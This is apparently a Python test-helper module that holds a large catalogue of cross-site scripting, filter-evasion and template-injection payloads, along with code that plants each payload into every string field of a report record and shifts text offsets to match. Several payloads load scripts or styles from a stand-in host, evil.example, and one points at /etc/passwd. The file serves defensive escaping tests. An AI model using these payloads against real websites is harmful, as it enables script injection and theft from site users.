"""Known ways to make a page run or load something, and how to plant one in any field of a report without breaking its offsets.

Each payload sets `window.ran`, opens a dialog or asks for something from an address, should it work. Sources: the classes of the OWASP
cheat sheet on the evasion of XSS filters and of the PortSwigger list, told by hand; nothing here reaches a real address.
"""

from __future__ import annotations

from bisect import bisect_left
from collections.abc import Callable, Iterator
from typing import Any, TypeVar

import msgspec
from msgspec import Struct, inspect

from retold.model import Comparison, News, Report, ReportedArticle, Span

PAYLOADS = {
    "a script": "<script>ran=1</script>",
    "a script in odd case, with a slash": "<ScRiPt/x>ran=1</sCrIpT>",
    "a script split by itself": "<scr<script>ipt>ran=1</scr</script>ipt>",
    "a script that is never closed": "<script>ran=1//",
    "a script from an address": "<script src=//evil.example/x.js></script>",
    "the end of a script": "</script><script>ran=1</script>",
    "the end of a script, escaped as JSON does": "\\u003c/script><script>ran=1</script>",
    "the end of a style": "</style><script>ran=1</script>",
    "the end of a title": "</title><script>ran=1</script>",
    "the end of a text area": "</textarea></select></template><script>ran=1</script>",
    "the end of a drawing": "</text></g></svg><script>ran=1</script>",
    "a comment that is never closed": "<!-- <script>ran=1</script>",
    "the end of a comment": "--><script>ran=1</script><!--",
    "a script in a comment in a script": "<!--<script>",
    "the end of a character section": "]]><script>ran=1</script><![CDATA[",
    "a picture with a handler": "<img src=x onerror=ran=1>",
    "a picture out of an attribute in double quotes": '"><img src=x onerror="ran=1">',
    "a picture out of an attribute in single quotes": "'><img src=x onerror='ran=1'>",
    "a handler out of an attribute in double quotes": '" autofocus tabindex=1 onfocus="ran=1" x="',
    "a handler out of an attribute in single quotes": "' autofocus tabindex=1 onfocus='ran=1' x='",
    "a handler out of an attribute without quotes": "x onmouseover=ran=1 ",
    "a handler after a backtick": "`onmouseover=ran=1 ",
    "a body with a handler": "<body onload=ran=1 onpageshow=ran=1>",
    "a field that takes the focus": "<input autofocus onfocus=ran=1>",
    "details that open": "<details open ontoggle=ran=1><summary>x</summary></details>",
    "an animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=ran=1>x</p>",
    "a film": "<video><source onerror=ran=1></video><audio src=x onerror=ran=1>",
    "a marquee": "<marquee onstart=ran=1>x</marquee>",
    "a link to a script": '<a href="javascript:ran=1">x</a>',
    "an address that is a script": "javascript:ran=1//",
    "an address that is a script, in odd case after a space": " JaVaScRiPt:ran=1//",
    "an address that is a script, with a tab": "java\tscript:ran=1//",
    "an address that is a script, with a line's end": "java\nscript:ran=1//",
    "an address that is a script, after a control character": "\x01javascript:ran=1//",
    "an address that is a script, as entities": "&#106;avascript&colon;ran=1//",
    "an address that is a script, with a host": "javascript://evil.example/%0Aran=1//",
    "an address that is a page": "data:text/html,<script>opener.ran=1</script>",
    "an address that is Basic": "vbscript:MsgBox(1)//",
    "an address of a file": "file:///etc/passwd?",
    "an address without a scheme": "//evil.example/",
    "an address with a quotation mark": 'https://evil.example/"onmouseover="ran=1',
    "a drawing with a handler": "<svg onload=ran=1>",
    "a drawing with a script": "<svg><script>ran=1</script></svg>",
    "a drawing with an animated link": "<svg><a><animate attributeName=href values=javascript:ran=1 /><text y=9>x</text></a></svg>",
    "a drawing that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"/></svg>',
    "a drawing with a page in it": "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></iframe></foreignObject></svg>",
    "a formula with a link": '<math><maction actiontype="statusline" xlink:href="javascript:ran=1">x</maction></math>',
    "a formula that changes its space": "<math><mtext><table><mglyph><style><img src=x onerror=ran=1></style></mglyph></table></math>",
    "a style": "<style>*{background:url(//evil.example/x)}</style>",
    "a style from elsewhere": "<style>@import'//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    "an expression in a style": '<p style="width:expression(ran=1)">x</p>',
    "a declaration out of a style": "red;}*{background:url(//evil.example/x)}/*",
    "a declaration out of an attribute": '" style="background:url(//evil.example/x)" x="',
    "a frame": "<iframe src=javascript:parent.ran=1></iframe>",
    "a frame with its page": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "an object": "<object data=javascript:ran=1></object><embed src=javascript:ran=1>",
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=javascript:ran=1">',
    "another base": "<base href=//evil.example/>",
    "a form": "<form action=javascript:ran=1><button autofocus>x</button></form><button formaction=javascript:ran=1>x</button>",
    "a name that hides one of the document's": "<form name=getElementById><input name=querySelector id=told></form>",
    "a template of Jinja": "{{7777*7777}}{{ ''.__class__ }}{% for x in range(9) %}zz{% endfor %}{# x #}",
    "a template of a browser": "${7777*7777}#{7777*7777}<%= 7777*7777 %>{{constructor.constructor('ran=1')()}}",
    "entities": "&lt;script&gt;ran=1&lt;/script&gt;&amp;lt;&#60;img src=x onerror=ran=1&#62;",
    "entities without their end": "&lt&#x3cscript&#x3eran=1",
    "wide brackets": "＜script＞ran=1＜/script＞",
    "a null byte in a tag": "<scr\x00ipt>ran=1</scr\x00ipt>\x00",
    "line separators": "\u2028\u2029ran=1//\u2028",
    "half of a pair that ends a string": '";ran=1;//\\";ran=1;//\\u2028',
    "an order from right to left": "\u202egnp.txt\u202d\u2066\u2067\u200f",
    "control characters": "\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9f\ufffe",
    "the end of plain text": "<plaintext><noscript><p title='</noscript><img src=x onerror=ran=1>'>",
}  # fmt: skip
COMPUTED = str(7777 * 7777)  # what a template that ran would have made of its payload
TEXTS = frozenset({"ReportedArticle.text", "Span.text"})  # one field for us: a span holds what the text has
DAYS = frozenset({"ReportedArticle.published", "Event.earliest", "Event.latest", "Interaction.earliest", "Interaction.latest"})

Change = Callable[[str, str], str]
Told = TypeVar("Told", bound=Struct)


def _kinds(kind: inspect.Type) -> Iterator[inspect.Type]:
    yield kind
    inner: tuple[Any, ...] = ()
    if isinstance(kind, inspect.UnionType):
        inner = kind.types
    elif isinstance(kind, inspect.VarTupleType):
        inner = (kind.item_type,)
    elif isinstance(kind, inspect.TupleType):
        inner = kind.item_types
    elif isinstance(kind, inspect.DictType):
        inner = (kind.key_type, kind.value_type)
    for one in inner:
        yield from _kinds(one)


def _structs(kind: inspect.Type, seen: dict[type, inspect.StructType]) -> dict[type, inspect.StructType]:
    for one in _kinds(kind):
        if isinstance(one, inspect.StructType) and one.cls not in seen:
            seen[one.cls] = one
            for field in one.fields:
                _structs(field.type, seen)
    return seen


def fields(record: type, kind: type[inspect.Type] = inspect.StrType) -> list[str]:
    """Return every field of a record, and of the records in it, that can hold what `kind` names: any string at all, or a few words."""
    return sorted(
        f"{one.__name__}.{field.name}"
        for one, told in _structs(inspect.type_info(record), {}).items()
        for field in told.fields
        if any(isinstance(held, kind) for held in _kinds(field.type))
    )


FIELDS = fields(Report)
LIMITED = fields(Report, inspect.LiteralType)
FEW = frozenset(name for record in (Report, Comparison, News) for name in fields(record, inspect.LiteralType))


def everywhere(value: Any, change: Change, where: str = "") -> Any:
    """Return a record with each string that is not one of a few words made anew by `change(Class.field, string)`."""
    if isinstance(value, Struct):
        name = type(value).__name__
        parts = {field: f"{name}.{field}" for field in value.__struct_fields__ if f"{name}.{field}" not in FEW}
        return msgspec.structs.replace(value, **{f: everywhere(getattr(value, f), change, at) for f, at in parts.items()})
    if isinstance(value, tuple):
        return tuple(everywhere(one, change, where) for one in value)
    if isinstance(value, dict):
        return {everywhere(k, change, where): everywhere(v, change, where) for k, v in value.items()}
    return change(where, value) if isinstance(value, str) else value


def strings(record: Struct, fields: frozenset[str]) -> set[str]:
    """Return what stands in some fields of a record."""
    found: set[str] = set()

    def note(where: str, value: str) -> str:
        if where in fields and value:
            found.add(value)
        return value

    everywhere(record, note)
    return found


def plant(record: Told, payload: str, fields: frozenset[str]) -> Told:
    """Return the record with the payload before whatever stood in these fields, after it where that is a day.

    A string that stands in other fields too (an id, a name that is referred to) changes there as well, so that the record stays of
    one piece. In an article's text the payload stands within every span and sentence, and the offsets move with it.
    """
    days = strings(record, fields & DAYS)
    changed = strings(record, fields - TEXTS - DAYS)

    def change(where: str, value: str) -> str:
        if where in DAYS:
            return value + payload if value in days else value
        return payload + value if where not in TEXTS and value in changed else value

    planted: Told = everywhere(record, change)
    return _lengthened(planted, payload) if fields & TEXTS else planted


def _lengthened(record: Told, payload: str) -> Told:
    """Plant the payload after the first character of every span and sentence of the articles' texts."""
    points: dict[str, set[int]] = {}
    for span in _found(record, Span):
        points.setdefault(span.article, set()).add(span.start + 1)
    for article in _found(record, ReportedArticle):
        points.setdefault(article.id, set()).update(start + 1 for start, _ in article.sentences)
    moved: Told = _moved(record, {name: sorted(found) for name, found in points.items()}, payload)
    return moved


def _found(value: Any, wanted: type[Any]) -> Iterator[Any]:
    """Yield every record of a kind within a value."""
    if isinstance(value, wanted):
        yield value
    if isinstance(value, Struct):
        value = [getattr(value, field) for field in value.__struct_fields__]
    for one in value.values() if isinstance(value, dict) else value if isinstance(value, (tuple, list)) else ():
        yield from _found(one, wanted)


def _moved(value: Any, points: dict[str, list[int]], payload: str) -> Any:
    if isinstance(value, Span):
        start, end = (_offset(points[value.article], at, payload) for at in (value.start, value.end))
        return Span(value.article, start, end, _inserted(value.text, value.start, points[value.article], payload))
    if isinstance(value, ReportedArticle):
        at = points[value.id]
        cuts = tuple((_offset(at, start, payload), _offset(at, end, payload)) for start, end in value.sentences)
        value = msgspec.structs.replace(value, text=_inserted(value.text, 0, at, payload), sentences=cuts)
    if isinstance(value, Struct):
        return msgspec.structs.replace(
            value, **{f: _moved(getattr(value, f), points, payload) for f in value.__struct_fields__}
        )
    if isinstance(value, tuple):
        return tuple(_moved(one, points, payload) for one in value)
    return value


def _offset(points: list[int], at: int, payload: str) -> int:
    return at + len(payload) * bisect_left(points, at)


def _inserted(text: str, start: int, points: list[int], payload: str) -> str:
    """Return a passage that begins at `start`, with the payload at every point within it."""
    pieces, last = [], 0
    for point in (point - start for point in points if start <= point < start + len(text)):
        pieces += [text[last:point], payload]
        last = point
    return "".join([*pieces, text[last:]])
